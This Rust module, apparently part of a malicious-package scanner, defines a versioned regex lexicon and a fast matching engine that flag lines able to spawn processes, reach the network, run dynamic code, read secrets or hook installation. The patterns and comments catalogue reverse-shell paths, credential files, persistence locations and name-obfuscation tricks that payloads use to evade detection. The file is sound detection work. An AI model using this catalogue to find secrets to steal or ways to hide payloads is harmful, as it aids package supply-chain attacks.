//! The capability view: the lines of a rendered package that can act on
//! the machine (spawn processes, use the network, run dynamic code, read
//! the environment or secrets, hook installation, decode blobs), each with
//! two lines of context, and nothing else.
//!
//! Why: a mean-pooled bag of tokens over a long slice barely moves when a
//! few payload lines are patched into a module (training/README.md,
//! "Hijacked modules"). Code harm needs a capability, so a model that reads
//! only capability lines sees a patched payload among a handful of lines
//! instead of among 16–64 KB of ordinary code, and a package with no
//! capability line at all gives it nothing to object to.
//!
//! The lexicon is deliberately broad (a word such as `requests` in a
//! comment counts): a line it catches needlessly only gives the model more
//! to read, while a capability it misses is never read. Documentation and
//! data files ([`is_inert`](crate::input::render::is_inert)) are skipped:
//! text harm (orders for an AI agent) is the main model's to judge, not
//! this view's.
//!
//! Training and scans build the view with this one function, so both see
//! the same bytes; [`Digest::span_to_source`] maps a slice of the view back
//! to the rendered text for reports. This module must never drop an added
//! code line the lexicon matches.

use std::borrow::Cow;
use std::sync::OnceLock;

#[cfg(test)]
use regex::bytes::RegexSet;

use crate::report::Span;

mod lexicon_split;

/// Named in model configs, so a model is bound to the lexicon it was
/// calibrated with (see [`View`](super::View)). v2 matched v1's patterns
/// with ASCII classes and word boundaries where v1 used Unicode ones. v3
/// (session 17) also matches each line as [`fold`](super::fold::fold)
/// folds it, so a name spelled in pieces (`o['home' + 'dir']()`,
/// `getattr(os, 'sys' + 'tem')`, `require('\\x63hild_process')`,
/// `chr(111) + chr(115)`, `os.ｓｙｓｔｅｍ`) counts as the name, and adds the
/// patterns v2 lacked ([`CLASSES`]: computed `require`, `import os as`,
/// `eval` passed as a value, gyp's `<!(…)`, pipes into a shell, npm's HTTP
/// clients, files that make code run again, and more). With v2 each of the
/// session's probes carried a payload with an empty view. v4 (session 18)
/// adds what twelve more probes used with an empty view: Node's `inspector`
/// opened to the network, WebAssembly, `zipimport` and `load_module`,
/// `spawnv_passfds`, asyncio's subprocess functions, `methodcaller('system',
/// …)`, `os as` in an import list, writing a `.pth` file or
/// `sitecustomize`, `require` passed as a value and
/// `process.getBuiltinModule`; and also `WebSocket`, yaml's unsafe loaders
/// and pickle's kin. v5 (session 19) adds what nine more probes used
/// with an empty view: `webbrowser` and multiprocessing's managers (data
/// out through a URL or to any address), the environment by other names
/// (`os.environb`, `posix.environ`, Node's `process` module,
/// `Reflect.get(process, 'env')`, `/proc/self/environ`), other installed
/// packages' files (`sysconfig`'s purelib), Node's keyloggers and screen
/// grabbers, and loaders that run what the bytes say (`joblib.load`,
/// `torch.load`, `shelve.open`, `allow_pickle=True`, `CodeType`, a worker
/// given code as a string). v6 (session 21) adds what two more probes
/// used with an empty view: `distutils.spawn` and `pkgutil.resolve_name`.
/// v7 (session 22) adds process runners other libraries name, which 15 of
/// 15 probes used with an empty view or under the veto's threshold:
/// pydoc's pagers, pexpect, ptyprocess, `sh`, plumbum, invoke, Python 2's
/// `commands` and `popen2`, pywin32 and WMI; npm's execa, cross-spawn,
/// shelljs, zx, node-pty and sudo-prompt.
/// A model calibrated on another lexicon's views is refused.
pub const LEXICON: &str = "capabilities/v7";

/// Lines of context kept on each side of a capability line.
pub const CONTEXT: usize = 2;

/// The capability classes and their patterns (matched on an added line,
/// without its leading `+`).
pub const CLASSES: &[(&str, &str)] = &[
    (
        "process",
        concat!(
            r#"\bsubprocess\b|\b(?:os|posix|nt)\.(?:system|popen|exec[lv]p?e?|spawn[lv]?p?e?|posix_spawnp?|fork|forkpty)\b|\bpty\.spawn\b|\bchild_process\b|\bexec(?:File)?Sync\b|\bspawnSync\b|\bcommands\.getoutput\b|\bPopen\b|\bShellExecute|\bstartfile\b|\bpowershell\b"#,
            // os under another name, or its functions imported bare.
            r#"|\bimport\s+(?:os|posix|nt)\s+as\b|\bimport\s+(?:posix|nt)\b|\bfrom\s+(?:os|posix|nt)\s+import\b.*(?:\b(?:system|popen|exec\w*|spawn\w*|fork\w*|posix_spawnp?|startfile)\b|\*)"#,
            // v6: distutils' process runner (and setuptools' copy of it).
            r#"|\b_?distutils\.spawn\b"#,
            // Its members by a name computed at run time (a literal name is
            // folded: `getattr(os, 'O_BINARY', 0)` is `os.O_BINARY`).
            r#"|\bgetattr\s*\(\s*(?:os|posix|nt|subprocess|builtins|__builtins__|socket|importlib|ctypes|pty)\s*,\s*[^'"\s]|\bvars\s*\(\s*(?:os|posix|nt|subprocess|builtins|__builtins__)\s*\)|\b(?:os|posix|nt|subprocess|builtins|socket|importlib)\.__(?:dict|getattribute|getattr)__\b"#,
            // node-gyp runs `<!(cmd)` when npm builds a package with a
            // binding.gyp (npm's default install script, no script named);
            // `(?<!(` in a regex is not one.
            r#"|(?:^|[^?])<!@?\("#,
            // Shell: a pipe into a shell, `sh -c`, a reverse shell.
            r#"|\|\s*(?:sudo\s+)?(?:ba|z|k|da)?sh(?:\s|$|[;&"'])|\b(?:ba|z|k|da)?sh\s+-c\b|/dev/(?:tcp|udp)/"#,
            // Windows: PowerShell's run-this-text and fetchers by alias, and
            // the system programs that fetch or run what they are given.
            r#"|\b(?:iex|iwr|Invoke-Expression|Start-Process)\b|\b(?:certutil|bitsadmin|mshta|rundll32|regsvr32|wscript|cscript)(?:\.exe)?\b"#,
            // Bun's and Deno's own process APIs.
            r#"|\bBun\.spawn(?:Sync)?\b|\bDeno\.(?:run|Command)\b"#,
            // v4: the private spawners under subprocess and multiprocessing,
            // asyncio's (`create_subprocess_shell`, `loop.subprocess_exec`),
            // a method named by a string (`methodcaller('system', c)(os)`),
            // os under another name in a list (`import sys, os as o`), and a
            // parenthesised import from os whose names follow on later lines.
            // v7: process runners by other libraries' names: pydoc's pagers
            // (a shell command), pexpect and ptyprocess, the `sh` and
            // plumbum libraries, invoke's `run`, Python 2's `commands` and
            // `popen2`, pywin32's process calls, WMI's `Win32_Process`
            // `Create`; npm's execa, cross-spawn, shelljs, zx, node-pty and
            // sudo-prompt. Libraries by their import or use, not by name
            // alone: a dependency list naming `execa` or `pexpect` (chalk's
            // package.json) runs nothing.
            r#"|\bpydoc\.(?:pipepager|tempfilepager)\b|\bfrom\s+pydoc\s+import\b.*\b(?:pipepager|tempfilepager)\b|\b(?:pipe|tempfile)_pager\s*\("#,
            r#"|\b(?:import|from)\s+(?:pexpect|ptyprocess|plumbum)\b|\b(?:pexpect|ptyprocess)\.\w|\bplumbum\.(?:local|cmd)\b|\bimport\s+sh\b|\bfrom\s+sh\s+import\b|\bsh\.(?:Command|bash|curl|wget)\s*\(|\binvoke\.(?:run|sudo)\s*\(|\bfrom\s+invoke\s+import\b.*\b(?:run|sudo)\b"#,
            r#"|\bcommands\.getstatusoutput\b|\bpopen2\b|\bwin32process\b|\bWinExec\b|\bWin32_Process\b[^\n]*\bCreate\b"#,
            r#"|\bexeca(?:Sync|Command|CommandSync|Node)?\s*\(|\b(?:require\s*\(\s*|from\s+|import\s*\(?\s*)['"](?:execa|cross-spawn|shelljs|zx|node-pty|sudo-prompt)(?:/[\w-]+)?['"]"#,
            r#"|\bspawnv_passfds\b|\b_posixsubprocess\b|subprocess_(?:exec|shell)\b|\bimport\s.*,\s*(?:os|posix|nt)\s+as\b|\bfrom\s+(?:os|posix|nt)\s+import\s*\(\s*$|\bmethodcaller\s*\(\s*[^'"\s)]|\b(?:methodcaller|attrgetter)\s*\(\s*['"](?:system|popen|exec\w*|spawn\w*|fork\w*|startfile|posix_spawnp?)['"]"#,
        ),
    ),
    (
        "network",
        concat!(
            r#"\bsocket\b|\burllib[23]?\b|\bhttp\.client\b|\bhttplib\b|\brequests\b|\baiohttp\b|\bhttpx\b|\bftplib\b|\bsmtplib\b|\btelnetlib\b|\bparamiko\b|\bwebsockets?\b|\bfetch\s*\(|\bXMLHttpRequest\b|require\(\s*['"](?:node:)?(?:https?|http2|net|dns|tls|dgram)['"]\s*\)|\bpycurl\b|\bdns\.resolver\b|(?:https?|tcp|ftp)://\d{1,3}(?:\.\d{1,3}){3}|\bcurl\b|\bwget\b|\bInvoke-WebRequest\b|\bDownloadString\b|\bwebhooks?\b"#,
            // The same modules as ES modules, npm's HTTP clients, and
            // Python's other protocol clients.
            r#"|(?:\bfrom\s+|\bimport\s*\(\s*)['"](?:node:)?(?:https?|http2|net|dns|tls|dgram)['"]|(?:\brequire\s*\(\s*|\bfrom\s+|\bimport\s*\(\s*)['"](?:axios|got|node-fetch|undici|request|needle|superagent|ws|socket\.io-client)['"]|\bopen_connection\b|\bxmlrpc\b|\bimaplib\b|\bpoplib\b"#,
            // v4: servers that listen for commands (a backdoor needs no
            // outbound connection; `logging.config.listen` even evaluates
            // what it is sent).
            r#"|\bhttp\.server\b|\bsocketserver\b|\b(?:HTTP|TCP|UDP|ThreadingHTTP|ThreadingTCP)Server\b|\bserve_forever\b|\bstart_(?:unix_)?server\b|\bmultiprocessing\.connection\b|\blogging\.config\.listen\b"#,
            // v4: the browser-style clients Node and Deno have built in, and
            // more of Python's (cloud storage is an upload channel too).
            r#"|\bWebSocket\b|\bEventSource\b|\bsendBeacon\b|\bboto3\b|\bhttplib2\b|\b(?:HTTPClient|httpclient)\b|\b(?:g|ni)requests\b|\burlfetch\b"#,
            // v5: a URL opened in the user's browser carries what it is
            // given, and multiprocessing's managers talk to any address.
            r#"|\bwebbrowser\b|\bmultiprocessing\.managers\b|\bBaseManager\b"#,
        ),
    ),
    (
        "dynamic-code",
        concat!(
            r#"\bexec\s*\(|\beval\s*\(|(?:^|[^\w.])compile\s*\(|\b__import__\b|\bimportlib\.(?:import_module|util|machinery|reload)\b|\bimport_module\s*\(|\bspec_from_file_location\b|\bexec_module\b|\bmarshal\b|\bctypes\b|\bcffi\b|\bnew\s+Function\s*\(|\bvm\.run|__builtins__|\bexec_\s*\(|\bpickle\.loads?\b|\bdlopen\b"#,
            // A module loaded by a computed name, as `__import__` above:
            // `require` or `import()` of anything but one string literal
            // (`import(` without a space: Python's `from m import (a, b)`
            // has one), and node's other ways in.
            // v6: any object reached by a dotted name (`'os:system'`).
            r#"|\bpkgutil\.resolve_name\b|\bfrom\s+pkgutil\s+import\b[^\n]*\bresolve_name\b"#,
            r#"|\brequire\s*\(\s*[^'"`\s)]|\bimport\(\s*[^'"`\s)]|\b(?:require\s*|import)\(\s*`[^`]*\$\{|\bcreateRequire\b|\bmodule\.constructor\b|\bModule\._load\b|\bprocess\.(?:binding|_linkedBinding|mainModule|dlopen|getBuiltinModule)\b|(?:\brequire\s*\(\s*|\bfrom\s+|\bimport\s*\(\s*)['"](?:node:)?(?:vm|module|worker_threads|inspector|repl)['"]"#,
            // `exec` and `eval` passed as values (`(0, eval)(s)`, `f = exec`),
            // `Function(s)` without `new`, `[].constructor.constructor(s)`.
            r#"|\b(?:exec|eval)\s*[),;]|[=(,]\s*(?:exec|eval)\b|(?:[=(,:?!&|]\s*|\breturn\s+|^\s*)Function\s*\(|\.constructor\.constructor\b|\bexecfile\b|\brunpy\b"#,
            // Members of the global object, a module table or a namespace
            // by a name computed on another line (`globalThis[k]`,
            // `sys.modules[m].popen`, `globals()[n]`), and timers given
            // code as a string.
            r#"|\b(?:global|globalThis)\s*\[|\b(?:globals|locals|vars)\s*\(\s*\)\s*\[|\bsys\.modules\s*\[[^\]]*\]\s*\.|\bgetattr\s*\(\s*sys\.modules\b|\bset(?:Timeout|Interval|Immediate)\s*\(\s*['"`]"#,
            // v4: Python's other ways to run a string (`timeit.timeit(s)`,
            // `cProfile.run(s)`, `pdb.run(s)`, `code.InteractiveInterpreter
            // ().runsource(s)`, `PyRun_SimpleString` through ctypes),
            // `require` passed as a value (`const r = require`,
            // `Reflect.apply(require, …)`), the async and generator
            // function constructors (`Function` by another name), a module
            // imported from a `data:` URL (code in a string), code loaded
            // from an archive or compiled to WebAssembly,
            // a debugger opened to the network, and deserialisers that run
            // code (`yaml`'s unsafe loaders, pickle's kin).
            r#"|\brequire\s*(?:[),;\]]|$)|\bgetPrototypeOf\s*\(\s*(?:async\b|function\s*\*)|\b(?:pdb|cProfile|profile)\.run(?:ctx|call)?\s*\(|\btimeit\.(?:timeit|repeat)\s*\(|\brun(?:source|code)\s*\(|\bInteractive(?:Interpreter|Console)\b|\bcompile_command\b|\bPyRun_\w+|\}\s*\)\s*\.\s*constructor\b|\bimport\s*\(\s*['"`]data:|\bzipimport\b|\bload_module\s*\(|\bWebAssembly\.(?:instantiate|compile|Module|Instance)|\binspector\.open\b|\bUnsafeLoader\b|\bunsafe_load(?:_all)?\b|\bLoader\s*=\s*(?:yaml\.)?Loader\b|\bUnpickler\b|\b(?:jsonpickle|dill|cloudpickle)\.(?:loads?|decode)\b"#,
            // v5: more loaders that run what the bytes say, code objects
            // built from bytes, and a worker thread given code as a string.
            r#"|\bjoblib\.load\b|\btorch\.load\b|\bshelve\.open\b|\ballow_pickle\s*=\s*True\b|\bCodeType\b|\beval\s*:\s*true\b"#,
        ),
    ),
    (
        "environment",
        concat!(
            r#"\bos\.environ\b|\bgetenv\b|\bprocess\.env\b|\bexpanduser\b|\bPath\.home\s*\(|\bhomedir\s*\(|\bgetpass\b|\bgetlogin\b|\bwinreg\b|\.ssh/|\.aws/|\.npmrc\b|\.pypirc\b|\.git-credentials\b|Login Data|Local State|\bleveldb\b|\bwallet\b|\bkeychain\b|\bgethostname\b|\bplatform\.node\b|\buserInfo\s*\("#,
            // `from os import environ`; `const { env } = process`.
            // `process[k]` with `k` built elsewhere.
            r#"|\bfrom\s+os\s+import\b.*\b(?:environ|getenv)\b|=\s*process\s*(?:[;,)]|$)|\bprocess\s*\["#,
            // Files that make code run again later (shell start-up files,
            // cron, SSH keys, login items).
            r#"|\.(?:bashrc|zshrc|bash_profile|zprofile)\b|\bauthorized_keys\b|/etc/cron|\bcrontab\b|\bLaunchAgents\b|\bschtasks\b|CurrentVersion\\+Run\b|Start Menu\\+Programs\\+Startup"#,
            // v4: Python runs every `.pth` file in site-packages at start-up,
            // and `sitecustomize` / `usercustomize` modules; services and
            // autostart entries run code again too.
            r#"|\.pth['"]|\b(?:site|user)customize\b|\bget(?:user)?sitepackages\b|systemd/user\b|\.config/autostart\b|\brc\.local\b|/etc/init\.d\b|\bsystemctl\b"#,
            // v4: more secrets by where they are kept (as a path segment
            // too: `Path(home) / '.kube'`), and what stealers watch: the
            // clipboard (address swapping), keys and the screen.
            r#"|\.(?:ssh|aws|kube|docker|azure|gnupg)\b|\bgcloud\b|\.netrc\b|\bid_(?:rsa|dsa|ecdsa|ed25519)\b|/etc/(?:passwd|shadow|sudoers)\b|\.bash_history\b|\bbrowser_cookie3?\b|\bpyperclip\b|\bclipboard_(?:get|append)\b|\bwin32clipboard\b|\bxclip\b|\bxsel\b|\bpb(?:copy|paste)\b|\bpynput\b|\bGetAsyncKeyState\b|\bSetWindowsHookEx|\bImageGrab\b|\bpyautogui\b"#,
            // v5: the environment by other names (`os.environb`,
            // `posix.environ`, Node's `process` module, `Reflect.get(process,
            // 'env')`) or read through `/proc`; other installed packages'
            // files (`sysconfig`'s purelib: code there runs when they are
            // imported); Node's keyloggers and screen grabbers.
            r#"|\bos\.environb\b|\b(?:posix|nt)\.environ\b|(?:\brequire\s*\(\s*|\bfrom\s+|\bimport\s*\(\s*)['"](?:node:)?process['"]|\bReflect\.(?:get|apply|has|ownKeys)\s*\(\s*(?:process|globalThis|global|require)\b|/proc/.*/(?:environ|mem)\b|\bsysconfig\.get_paths?\b|\b(?:purelib|platlib)\b|\bu?iohook\b|\bscreenshot-desktop\b|\bnode-global-key-listener\b"#,
        ),
    ),
    (
        "install-hook",
        r#"\bcmdclass\b|"(?:pre|post)?install"\s*:|"prepare"\s*:"#,
    ),
    (
        "encoded",
        r#"\bb(?:64|32|16|85)decode\b|\ba85decode\b|\bfromhex\b|\bunhexlify\b|\bzlib\.decompress\b|\bcodecs\.decode\b|\bFernet\b|\batob\s*\(|Buffer\.from\([^)]*['"]base64['"]|\bbase64\s+(?:-d|--decode)\b"#,
    ),
];

/// The `encoded` class's long runs, checked by hand ([`long_run`]) rather
/// than in the regex set: as counted repetitions they made the lazy DFA
/// build hundreds of states in every process before its first match (25 ms,
/// more than certifi's whole scan). The same as these patterns would be.
pub const RUNS: &[&str] = &[
    r"[A-Za-z0-9+/]{200,}",
    r"(?:\\x[0-9a-fA-F]{2}){40,}",
    r"(?:\\[0-7]{3}){20,}",
];

/// Whether `line` holds one of [`RUNS`]: 200 base64 characters in a row,
/// or 40 `\xHH` or 20 `\ooo` escapes in a row.
fn long_run(line: &[u8]) -> bool {
    // The shortest run is 20 octal escapes, 80 bytes: most lines of code
    // are shorter, and this loop over every byte of every code line was a
    // tenth of a small package's scan.
    if line.len() < 80 {
        return false;
    }
    let mut run = 0;
    for &b in line {
        if b.is_ascii_alphanumeric() || b == b'+' || b == b'/' {
            run += 1;
            if run >= 200 {
                return true;
            }
        } else {
            run = 0;
        }
    }
    let hex = |u: &[u8]| u[0] == b'x' && u[1].is_ascii_hexdigit() && u[2].is_ascii_hexdigit();
    let octal = |u: &[u8]| u.iter().all(|c| (b'0'..=b'7').contains(c));
    escapes(line, hex, 40) || escapes(line, octal, 20)
}

/// Whether `line` holds `need` back-to-back four-byte escapes: a backslash
/// and three bytes that `unit` accepts. No escape's last three bytes can
/// hold a backslash, so a run cannot start inside another, and the scan
/// may jump past a run that fell short.
fn escapes(line: &[u8], unit: impl Fn(&[u8]) -> bool, need: usize) -> bool {
    let at = |j: usize| j + 4 <= line.len() && line[j] == b'\\' && unit(&line[j + 1..j + 4]);
    let mut i = 0;
    while i + 4 <= line.len() {
        let mut j = i;
        while at(j) {
            j += 4;
            if (j - i) / 4 >= need {
                return true;
            }
        }
        i = j.max(i + 1);
    }
    false
}

/// Whether an added line (without its `+`) shows any capability, as
/// written or as [`fold`](super::fold::fold) folds it.
pub(crate) fn is_capability(line: &[u8]) -> bool {
    !matches!(capability(line), Hit::None)
}

/// How a line shows a capability.
enum Hit {
    None,
    /// As written.
    Written,
    /// Only once folded (`o['home' + 'dir']()`): the folded line, which is
    /// what the view shows of it, so a model reads the name the line
    /// spells and not its pieces.
    Folded(Vec<u8>),
}

fn matches(line: &[u8]) -> bool {
    split_lexicon().is_match(line) || long_run(line)
}

/// Words one of which every match of every pattern in [`CLASSES`] holds: a
/// unit test proves it from the patterns' syntax. A line is matched only
/// against the branches of the lexicon filed under the needles it holds
/// ([`SplitLexicon`]). Most lines of code hold none, and the lexicon's lazy
/// DFA built states for every line it read, afresh in every process: before
/// this search, 60 % of certifi's scan was that.
pub const NEEDLES: &[&str] = &[
    // v7
    "pydoc",
    "_pager",
    "pexpect",
    "ptyprocess",
    "sh.Command",
    "sh.bash",
    "sh.curl",
    "sh.wget",
    "plumbum",
    "invoke.",
    "getstatusoutput",
    "win32process",
    "WinExec",
    "Win32_Process",
    // v6
    "resolve_name",
    // v5
    "webbrowser",
    "managers",
    "BaseManager",
    "Reflect",
    "/proc/",
    "sysconfig",
    "purelib",
    "platlib",
    "iohook",
    "screenshot-desktop",
    "global-key-listener",
    "joblib",
    "torch",
    "shelve",
    "allow_pickle",
    "CodeType",
    "subprocess",
    "system",
    "popen",
    "exec",
    "spawn",
    "fork",
    "pty.",
    "child_process",
    "getoutput",
    "Popen",
    "ShellExecute",
    "startfile",
    "powershell",
    "import",
    "getattr",
    "vars",
    ".__",
    "<!",
    "|",
    "-c",
    "/dev/",
    "iex",
    "iwr",
    "Invoke-",
    "Start-Process",
    "certutil",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
    "wscript",
    "cscript",
    "Deno.",
    "methodcaller",
    "attrgetter",
    "socket",
    "urllib",
    "http",
    "requests",
    "ftplib",
    "smtplib",
    "telnetlib",
    "paramiko",
    "websocket",
    "fetch",
    "XMLHttpRequest",
    "require",
    "curl",
    "dns.",
    "://",
    "wget",
    "DownloadString",
    "webhook",
    "from",
    "open_connection",
    "xmlrpc",
    "imaplib",
    "poplib",
    "WebSocket",
    "server",
    "Server",
    "serve_forever",
    "multiprocessing.connection",
    "logging.config",
    "EventSource",
    "sendBeacon",
    "boto3",
    "HTTPClient",
    "httpclient",
    "urlfetch",
    "eval",
    "compile",
    "marshal",
    "ctypes",
    "cffi",
    "Function",
    "vm.",
    "builtins",
    "pickle",
    "dlopen",
    "Require",
    "constructor",
    "getPrototypeOf",
    "pdb.",
    "rofile.run",
    "timeit",
    "runsource",
    "runcode",
    "Interactive",
    "compile_command",
    "PyRun_",
    "Module._load",
    "process",
    "global",
    "locals",
    "sys.modules",
    "setTimeout",
    "setInterval",
    "setImmediate",
    "runpy",
    "zipimport",
    "load_module",
    "WebAssembly",
    "inspector",
    "Loader",
    "unsafe_load",
    "Unpickler",
    "dill.",
    "spec_from_file_location",
    "environ",
    "getenv",
    "expanduser",
    "Path.home",
    "homedir",
    "getpass",
    "getlogin",
    "winreg",
    ".ssh",
    ".aws",
    ".npmrc",
    ".pypirc",
    ".git-credentials",
    "Login Data",
    "Local State",
    "leveldb",
    "wallet",
    "keychain",
    "gethostname",
    "platform.node",
    "userInfo",
    "bashrc",
    "zshrc",
    "bash_profile",
    "zprofile",
    "authorized_keys",
    "/etc/cron",
    "crontab",
    "LaunchAgents",
    "schtasks",
    "CurrentVersion",
    "Start Menu",
    ".pth",
    "customize",
    "sitepackages",
    "systemd/user",
    ".config/autostart",
    "rc.local",
    "/etc/init.d",
    "systemctl",
    ".kube",
    ".docker",
    ".azure",
    ".gnupg",
    "gcloud",
    ".netrc",
    "id_",
    "/etc/",
    ".bash_history",
    "browser_cookie",
    "pyperclip",
    "clipboard_",
    "win32clipboard",
    "xclip",
    "xsel",
    "pbcopy",
    "pbpaste",
    "pynput",
    "GetAsyncKeyState",
    "SetWindowsHookEx",
    "ImageGrab",
    "pyautogui",
    "cmdclass",
    "install\"",
    "prepare\"",
    "decode",
    "fromhex",
    "unhexlify",
    "decompress",
    "Fernet",
    "atob",
    "base64",
];

fn needles() -> &'static aho_corasick::AhoCorasick {
    static AC: OnceLock<aho_corasick::AhoCorasick> = OnceLock::new();
    // A DFA built whole up front (a few hundred states): a lazily built
    // one would cost every process what the lexicon's did.
    AC.get_or_init(|| {
        aho_corasick::AhoCorasick::builder()
            .kind(Some(aho_corasick::AhoCorasickKind::DFA))
            .build(NEEDLES)
            .expect("capability needles compile")
    })
}

/// Builds what every line's search needs ([`needles`], the split
/// lexicon's table), for a thread with nothing else to do.
pub fn warm_up() {
    needles();
    split_lexicon();
}

fn capability(line: &[u8]) -> Hit {
    // As written when that shows a capability: folding is for lines that
    // hide theirs, and the lines a model was calibrated on stay as they
    // were (shown folded, `__builtins__.__dict__['__imp' + 'ort__']`
    // scored 0.00058 where the line as written scores 0.0040, and gitdb's
    // tests lost their allow, in session 17's probes).
    if matches(line) {
        return Hit::Written;
    }
    match super::fold::fold(line) {
        Some(folded) if matches(&folded) => Hit::Folded(folded),
        _ => Hit::None,
    }
}

/// The lexicon split by needle: for each of [`NEEDLES`], the branches of
/// [`CLASSES`]' patterns (their top-level alternatives) some needle of
/// whose every match is that one. A line matches the lexicon exactly when
/// one of the branches filed under a needle it holds matches it, since every
/// branch is filed under each needle one of which its every match holds
/// ([`needles_in`]). Why: matched whole, the lexicon's lazy DFA built
/// states for every combination of half-matched names a line of code
/// brought, afresh in every process (a tenth of lxml's scan); a needle's
/// few branches make a small DFA with few states.
///
/// The split itself is read from the syntax of the patterns by a unit
/// test ([`computed_split`]) and shipped as constants in
/// `capabilities/lexicon_split.rs`, which that test checks and rewrites on
/// request. Why not at start-up: parsing the whole lexicon and filing its
/// branches cost every process about 20 M instructions, two fifths of a
/// small package's scan (is-number, callgrind).
struct SplitLexicon {
    /// One per entry of [`lexicon_split::GROUPS`].
    groups: Vec<Group>,
}

/// One distinct set of the lexicon's branches.
struct Group {
    /// Its branches as written in [`CLASSES`], joined by `|`; empty for a
    /// needle no branch is filed under. A unit test checks that a class's
    /// branches joined again are its pattern, so this is the set of
    /// branches the lexicon has.
    pattern: &'static str,
    /// A forward lazy DFA over the branches, built on first use: most
    /// lines hold few needles, and a process compiles only the groups its
    /// input needs.
    dfa: OnceLock<regex_automata::hybrid::dfa::DFA>,
    /// The same branches as a regex, for lines longer than
    /// [`Group::DFA_LINE_MAX`] and for any line the lazy DFA gives up on
    /// (its default settings never do): built on first such line.
    regex: OnceLock<regex::bytes::Regex>,
}

thread_local! {
    /// Each thread's search caches for the groups' lazy DFAs, by group.
    static GROUP_CACHES: std::cell::RefCell<Vec<Option<regex_automata::hybrid::dfa::Cache>>> =
        const { std::cell::RefCell::new(Vec::new()) };
}

impl Group {
    /// Lines up to this long are searched by the lazy DFA alone; longer
    /// ones by the regex, whose prefilter skips to where a branch may
    /// start. With the DFA alone, the long lines of lxml's generated C
    /// (hundreds of KB) made its scan 7 % slower; at 1,024 bytes it is as
    /// before and small packages keep the gain (`perf stat`, limits 0 to
    /// 256 and 1,024 tried).
    const DFA_LINE_MAX: usize = 1024;

    /// Whether any of the group's branches matches somewhere in `line`.
    ///
    /// Why a bare forward lazy DFA and not a `Regex`: whether a short line
    /// matches needs no match bounds, captures, reverse search or
    /// prefilter (the line holds one of the needles already), and building
    /// those for each group a scan meets, in every process, was a fifth of
    /// a small package's scan (typing_extensions: 29 groups, 4.5 ms).
    fn is_match(&self, g: usize, line: &[u8]) -> bool {
        if line.len() <= Self::DFA_LINE_MAX {
            if let Some(found) = self.dfa_match(g, line) {
                return found;
            }
        }
        self.regex().is_match(line)
    }

    /// [`is_match`](Self::is_match) by the lazy DFA alone (this thread's
    /// cache for group `g`); `None` if it gave up.
    fn dfa_match(&self, g: usize, line: &[u8]) -> Option<bool> {
        let dfa = self.dfa.get_or_init(|| {
            use regex_automata::nfa::thompson;
            let nfa = thompson::Compiler::new()
                .syntax(lexicon_syntax())
                .configure(thompson::Config::new().which_captures(thompson::WhichCaptures::None))
                .build(self.pattern)
                .expect("a lexicon group compiles");
            regex_automata::hybrid::dfa::Builder::new()
                .build_from_nfa(nfa)
                .expect("a lexicon group's lazy DFA builds")
        });
        let input = regex_automata::Input::new(line).earliest(true);
        GROUP_CACHES.with(|caches| {
            let mut caches = caches.borrow_mut();
            if caches.len() <= g {
                caches.resize_with(g + 1, || None);
            }
            let cache = caches[g].get_or_insert_with(|| dfa.create_cache());
            dfa.try_search_fwd(cache, &input).ok().map(|m| m.is_some())
        })
    }

    fn regex(&self) -> &regex::bytes::Regex {
        self.regex.get_or_init(|| {
            regex::bytes::RegexBuilder::new(self.pattern)
                .unicode(false)
                .build()
                .expect("a lexicon group compiles")
        })
    }
}

/// How the lexicon is parsed: bytes with Unicode off (ASCII classes and
/// word boundaries). Why ASCII: with Unicode word boundaries a lazy DFA
/// gives up on any line holding a non-ASCII byte and a far slower engine
/// takes over (rich's sdist took 0.3 s to digest); the lexicon's names are
/// ASCII anyway.
fn lexicon_syntax() -> regex_automata::util::syntax::Config {
    regex_automata::util::syntax::Config::new()
        .unicode(false)
        .utf8(false)
}

impl SplitLexicon {
    fn new() -> SplitLexicon {
        let groups = lexicon_split::GROUPS
            .iter()
            .map(|&pattern| Group {
                pattern,
                dfa: OnceLock::new(),
                regex: OnceLock::new(),
            })
            .collect();
        SplitLexicon { groups }
    }

    fn is_match(&self, line: &[u8]) -> bool {
        let ac = needles();
        if !ac.is_match(line) {
            return false;
        }
        // Each group at most once: a line of `os.system(os.popen(…))`
        // holds the same needles many times. There are at most as many
        // groups as needles.
        let mut tried = [0u64; NEEDLES.len().div_ceil(64)];
        for m in ac.find_overlapping_iter(line) {
            let g = usize::from(lexicon_split::GROUP_OF[m.pattern().as_usize()]);
            if tried[g / 64] & (1 << (g % 64)) != 0 {
                continue;
            }
            tried[g / 64] |= 1 << (g % 64);
            let group = &self.groups[g];
            // A needle no branch is filed under (each branch is filed
            // under the needles of its first part that has some).
            if !group.pattern.is_empty() && group.is_match(g, line) {
                return true;
            }
        }
        false
    }
}

fn split_lexicon() -> &'static SplitLexicon {
    static SPLIT: OnceLock<SplitLexicon> = OnceLock::new();
    SPLIT.get_or_init(SplitLexicon::new)
}

/// The split [`lexicon_split`] ships, computed from [`CLASSES`] and
/// [`NEEDLES`]: for each needle its group, and each group's branches as
/// written, joined by `|`, groups in the order of their first needle.
#[cfg(test)]
fn computed_split() -> (Vec<usize>, Vec<String>) {
    let mut all = Vec::new();
    let mut filed: Vec<Vec<usize>> = vec![Vec::new(); NEEDLES.len()];
    for (name, pattern) in CLASSES {
        for branch in lexicon_branches(pattern) {
            // A branch with no needle in every match would have to be
            // tried on every line; a unit test proves there is none, and
            // filing it under every needle keeps the split sound if one is
            // ever added.
            let under =
                needles_in(&parse_lexicon(branch)).unwrap_or_else(|| (0..NEEDLES.len()).collect());
            assert!(!under.is_empty(), "{name}: a branch with no needle");
            for n in under {
                filed[n].push(all.len());
            }
            all.push(branch);
        }
    }
    let mut group_of = Vec::with_capacity(NEEDLES.len());
    let mut groups: Vec<Vec<usize>> = Vec::new();
    for branches in filed {
        let g = match groups.iter().position(|h| *h == branches) {
            Some(g) => g,
            None => {
                groups.push(branches);
                groups.len() - 1
            }
        };
        group_of.push(g);
    }
    let patterns = groups
        .iter()
        .map(|branches| {
            let texts: Vec<&str> = branches.iter().map(|&b| all[b]).collect();
            texts.join("|")
        })
        .collect();
    (group_of, patterns)
}

/// The top-level alternatives of one of [`CLASSES`]' patterns, as written
/// (none of them sets a flag that a later one would lose). As written and
/// not as parsed and printed: the printed form is longer, and parsing a
/// group's pattern is most of what compiling it costs.
#[cfg(test)]
fn lexicon_branches(pattern: &str) -> Vec<&str> {
    use regex_syntax::ast::Ast;
    let ast = regex_syntax::ast::parse::Parser::new()
        .parse(pattern)
        .expect("capability lexicon parses");
    match &ast {
        Ast::Alternation(alt) => alt
            .asts
            .iter()
            .map(|a| &pattern[a.span().start.offset..a.span().end.offset])
            .collect(),
